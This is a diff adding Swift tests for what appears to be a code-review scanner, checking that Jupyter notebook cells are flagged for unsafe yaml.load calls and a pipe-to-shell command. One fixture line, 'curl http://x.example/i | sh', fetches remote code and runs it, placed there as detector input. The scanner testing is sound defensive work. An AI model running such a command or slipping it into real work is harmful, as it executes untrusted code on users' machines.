@@ -46,6 +46,37 @@ import Text
             ])
     }
 
+    @Test func `a notebook on one line is reviewed cell by cell, each finding where it stands`() {
+        let text =
+            #"{"cells": [{"cell_type": "markdown", "source": ["yaml.load(x)"]}, {"cell_type": "code", "metadata""#
+            + #": {}, "source": ["import yaml\n", "data = yaml.load(text)\n", "!curl http://x.example/i | sh"]}, "#
+            + #"{"source": "import yaml\nyaml.load(\"é\" + text)", "cell_type": "code"}], "nbformat": 4}"#
+        let bytes = Array(text.utf8)
+        let findings = review(bytes, language: Language(path: "a.ipynb"), path: "a.ipynb")
+        let places = findings.map { finding in
+            "\(finding.ruleID) \(String(decoding: bytes[finding.range.startByte..<finding.range.endByte], as: UTF8.self))"
+        }
+        #expect(findings.allSatisfy { $0.range.startLine == 0 && $0.fix == nil })
+        #expect(
+            Set(places) == [
+                "eval/yaml-load yaml.load(text)", "eval/yaml-load yaml.load(\\\"é\\\" + text)",
+                "command/pipe-to-shell curl http://x.example/i | sh",
+            ], "\(places)")
+    }
+
+    @Test func `a notebook on one line is reviewed anew with each edit`() {
+        let text = #"{"cells": [{"cell_type": "code", "source": ["import yaml\n", "data = yaml.loan(text)"]}]}"#
+        var document = ReviewedDocument(text: Array(text.utf8), language: Language(path: "a.ipynb"), path: "a.ipynb")
+        document.review()
+        #expect(document.findings.isEmpty)
+        let column = text.utf8.distance(from: text.startIndex, to: text.firstRange(of: "loan")!.lowerBound) + 3
+        document.replace(
+            from: TextPosition(line: 0, character: column), to: TextPosition(line: 0, character: column + 1),
+            with: "d".utf8, encoding: .utf8)
+        document.review()
+        #expect(document.findings.map(\.ruleID) == ["eval/yaml-load"])
+    }
+
     @Test func `recipes of a makefile are reviewed as shell`() {
         let text = """
             NAME = $(shell eval "$$x")
